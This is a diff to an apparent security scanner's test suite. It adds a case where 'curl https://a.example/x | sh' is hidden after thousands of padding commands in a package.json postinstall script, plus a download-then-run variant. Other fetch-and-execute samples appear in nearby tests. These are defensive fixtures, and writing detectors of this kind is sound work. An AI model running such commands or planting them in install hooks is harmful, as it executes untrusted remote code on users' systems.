@@ -53,6 +53,14 @@ describe("SEC-5: what shells and package managers are told to run", () => {
     expect(await told("package.json", scripts({ build: command }))).toEqual(["warning download-run 4"]);
   });
 
+  it("reads a long script to its end, and finds the names that files keep from a server (SEC-8)", async () => {
+    const before = "echo a; ".repeat(5_000);
+    const command = `${before}curl https://a.example/x | sh`;
+    expect(await told("package.json", scripts({ postinstall: command }))).toContain("error download-run 4");
+    const kept = "curl -sLO https://a.example/b/setup.sh && sh setup.sh";
+    expect(await told("package.json", scripts({ build: kept }))).toEqual(["warning download-run 4"]);
+  });
+
   it("finds the same in images, pipelines, hooks, make files and calls of other languages", async () => {
     const pipe = "curl https://a.example/x | sh";
     expect(await told("Dockerfile", "FROM a\nRUN apk add curl \\\n  && curl https://a.example/x \\\n  | sh\n")).toEqual(
